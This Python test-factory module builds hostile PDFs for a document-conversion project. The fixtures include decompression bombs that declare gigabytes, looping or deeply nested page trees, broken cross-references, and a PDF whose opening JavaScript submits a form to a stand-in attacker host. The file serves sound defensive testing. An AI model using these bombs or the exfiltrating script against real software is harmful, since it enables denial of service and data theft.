"""Hostile PDFs for the corpus (tests/factories/hostile.py), and hostile but valid ones.

Bombs are tiny files that *declare* huge sizes: object and content streams that inflate
to gigabytes are built without ever holding the inflated bytes.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence

from tests.factories import files

MiB = 1024 * 1024
GiB = 1024 * MiB

PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
ONE_KID = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CONTENT_TEXT = b"BT /F1 12 Tf 72 720 Td (Hostile corpus) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d" % len(data) + extra + b" >>\nstream\n" + data + b"\nendstream"


def _page(mediabox: bytes = b"[0 0 612 792]", *, parent: int = 2, contents: int = 4, font: int = 5) -> bytes:
    return (
        b"<< /Type /Page /Parent %d 0 R /MediaBox " % parent
        + mediabox
        + b" /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (font, contents)
    )


def _pdf(
    objects: Sequence[bytes],
    *,
    trailer: bytes = b"/Root 1 0 R",
    startxref: int | None = None,
    header: bytes = PDF_HEADER,
) -> bytes:
    """Numbered objects (1-based) with a classic xref table and trailer."""
    return files.pdf_from_objects(objects, header=header, trailer=trailer, startxref=startxref)


def one_page(mediabox: bytes = b"[0 0 612 792]") -> bytes:
    return _pdf([CATALOG, ONE_KID, _page(mediabox), _stream(CONTENT_TEXT), FONT])


def pages_tree(pages_dict: bytes) -> bytes:
    return _pdf([CATALOG, pages_dict, _page(), _stream(CONTENT_TEXT), FONT])


def _objstm_pdf(objstm_data: bytes, objstm_extra: bytes, *, offsets: Sequence[int]) -> bytes:
    """A PDF 1.5 file whose catalog (2), page tree (3) and page (4) live in object stream 1,
    with a content stream (5), a font (6) and a cross-reference stream (7)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    pos: dict[int, int] = {}
    pos[1] = len(out)
    out += (
        b"1 0 obj\n<< /Type /ObjStm /N 3 /First %d /Length %d" % (offsets[0], len(objstm_data))
        + objstm_extra
        + b" >>\nstream\n"
        + objstm_data
        + b"\nendstream\nendobj\n"
    )
    for num, body in ((5, _stream(CONTENT_TEXT)), (6, FONT)):
        pos[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    pos[7] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF), struct.pack(">BIH", 1, pos[1], 0)]
    rows += [struct.pack(">BIH", 2, 1, i) for i in range(3)]
    rows += [struct.pack(">BIH", 1, pos[n], 0) for n in (5, 6, 7)]
    table = b"".join(rows)
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % pos[7]
    )
    return bytes(out)


def _objstm_body() -> tuple[bytes, list[int]]:
    objs = [
        b"<< /Type /Catalog /Pages 3 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 6 0 R >> >> /Contents 5 0 R >>",
    ]
    body = b""
    rel: list[int] = []
    for obj in objs:
        rel.append(len(body))
        body += obj + b" "
    index = b" ".join(b"%d %d" % (num, off) for num, off in zip((2, 3, 4), rel, strict=True)) + b" "
    return index + body, [len(index)]


def _zeros_deflate(prefix: bytes, zeros: int) -> bytes:
    """A zlib stream of ``prefix`` followed by ``zeros`` zero bytes, built without
    compressing them: one full-flushed 1 MiB block is repeated, then the checksum is
    computed arithmetically (Adler-32 of zeros only advances its second half)."""
    assert zeros % MiB == 0
    c = zlib.compressobj(9)
    first = c.compress(prefix) + c.compress(b"\0" * MiB) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(b"\0" * MiB) + c.flush(zlib.Z_FULL_FLUSH)
    end = c.flush(zlib.Z_FINISH)[:-4]
    adler = zlib.adler32(prefix)
    a, b = adler & 0xFFFF, adler >> 16
    b = (b + a * (zeros % 65521)) % 65521
    return first + block * (zeros // MiB - 1) + end + struct.pack(">I", (b << 16) | a)


def objstm_bomb(*, nested: bool, inflated: int) -> bytes:
    body, first = _objstm_body()
    data = _zeros_deflate(body, inflated)
    if nested:
        # Deflating a deflate stream of repeated blocks again: a few KB that expand to
        # the inner stream, which expands to ``inflated`` bytes.
        return _objstm_pdf(zlib.compress(data, 9), b" /Filter [/FlateDecode /FlateDecode]", offsets=first)
    return _objstm_pdf(data, b" /Filter /FlateDecode", offsets=first)


def content_bomb() -> bytes:
    inner = _zeros_deflate(CONTENT_TEXT + b"\n", 4 * GiB)
    bomb = _stream(zlib.compress(inner, 9), b" /Filter [/FlateDecode /FlateDecode]")
    return _pdf([CATALOG, ONE_KID, _page(), bomb, FONT])


def content_bomb_hidden(*, escaped: bool) -> bytes:
    inner = _zeros_deflate(CONTENT_TEXT + b"\n", GiB)
    packed = zlib.compress(inner, 9)
    if escaped:
        bomb = _stream(packed, b" /Filter [/Fl#61teDecode /Fl#61teDecode]")
        return _pdf([CATALOG, ONE_KID, _page(), bomb, FONT])
    # The filter array is an object of its own, which the stream refers to.
    bomb = _stream(packed, b" /Filter 6 0 R")
    return _pdf([CATALOG, ONE_KID, _page(), bomb, FONT, b"[/FlateDecode /FlateDecode]"])


def truncated_objstm() -> bytes:
    body, first = _objstm_body()
    packed = zlib.compress(body, 9)
    # The compressed object stream is cut after its first bytes: catalog, page tree and
    # page are lost, though the file still ends properly.
    return _objstm_pdf(packed[:6], b" /Filter /FlateDecode", offsets=first)


def page_tree_loop() -> bytes:
    # 2 is the root Pages node; its kid 3 is an intermediate node whose kids are 3's
    # own ancestor (2) and itself.
    return _pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 3 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 3 >>",
        ]
    )


def deep_page_tree(levels: int) -> bytes:
    # Pages nodes nested ``levels`` deep above a single page.
    objs: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(levels):
        num = 2 + i
        parent = b"/Parent %d 0 R " % (num - 1) if i else b""
        objs.append(b"<< /Type /Pages " + parent + b"/Kids [%d 0 R] /Count 1 >>" % (num + 1))
    page_num = 2 + levels
    objs.append(_page(parent=page_num - 1, contents=page_num + 1, font=page_num + 2))
    objs.append(_stream(CONTENT_TEXT))
    objs.append(FONT)
    return _pdf(objs)


def deep_arrays(levels: int) -> bytes:
    return pages_tree(b"<< /Type /Pages /Kids " + b"[" * levels + b"3 0 R" + b"]" * levels + b" /Count 1 >>")


def deep_dicts(levels: int) -> bytes:
    # The page tree's /Kids sits inside dictionaries nested ``levels`` deep; pdfium stops
    # parsing at 64 levels (dropping what is deeper), so the page cannot be found.
    nest = b"<</K" * levels + b" [3 0 R]" + b">>" * levels
    return pages_tree(b"<< /Type /Pages /Kids " + nest + b" /Count 1 >>")


def unknown_security_handler() -> bytes:
    ident = b"<00112233445566778899aabbccddeeff>"
    return _pdf(
        [
            CATALOG,
            ONE_KID,
            _page(),
            _stream(CONTENT_TEXT),
            FONT,
            b"<< /Filter /Hostile.Lock /V 9 /R 9 /Length 256 >>",
        ],
        trailer=b"/Root 1 0 R /Encrypt 6 0 R /ID [" + ident + b" " + ident + b"]",
    )


def kids_not_pages() -> bytes:
    # The only kid is the catalog itself, then an integer: no page anywhere.
    return pages_tree(b"<< /Type /Pages /Kids [1 0 R 42] /Count 2 >>")


def missing_root() -> bytes:
    return _pdf([CATALOG, ONE_KID, _page(), _stream(CONTENT_TEXT), FONT], trailer=b"/Root 99 0 R")


def xref_outside_file() -> bytes:
    return _pdf([CATALOG, ONE_KID, _page(), _stream(CONTENT_TEXT), FONT], startxref=10**12)


# --------------------------------------------------------------------------------------
# Hostile but valid: must be accepted and handled safely
# --------------------------------------------------------------------------------------

SCRIPT_MARKER = "pagemill-hostile-script-7f3a"
ATTACHMENT_MARKER = "pagemill-hostile-attachment-91c2"
VISIBLE_MARKER = "Quarterly report 2026"


def pdf_with_object_streams() -> bytes:
    """A well-formed PDF 1.5 whose catalog, page tree and page live in a compressed object
    stream (as most modern producers write them): the bomb checks must let it through."""
    body, first = _objstm_body()
    return _objstm_pdf(zlib.compress(body, 9), b" /Filter /FlateDecode", offsets=first)


def pdf_with_javascript_and_attachment() -> bytes:
    """One page of visible text, an /OpenAction JavaScript and an embedded file.

    Neither :data:`SCRIPT_MARKER` (inside the script) nor :data:`ATTACHMENT_MARKER`
    (the attachment's content) may ever reach a conversion's output.
    """
    script = f"app.alert('{SCRIPT_MARKER}'); this.submitForm('https://evil.example/');".encode()
    attachment = f"secret attachment {ATTACHMENT_MARKER}\n".encode()
    content = b"BT /F1 14 Tf 72 720 Td (" + VISIBLE_MARKER.encode() + b") Tj ET"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R "
            b"/EmbeddedFiles 8 0 R >> >>",
            ONE_KID,
            _page(),
            _stream(content),
            FONT,
            b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>",
            b"<< /Names [(init) 6 0 R] >>",
            b"<< /Names [(notes.txt) 9 0 R] >>",
            b"<< /Type /Filespec /F (notes.txt) /UF (notes.txt) /EF << /F 10 0 R >> >>",
            _stream(attachment, b" /Type /EmbeddedFile /Subtype /text#2Fplain"),
        ]
    )
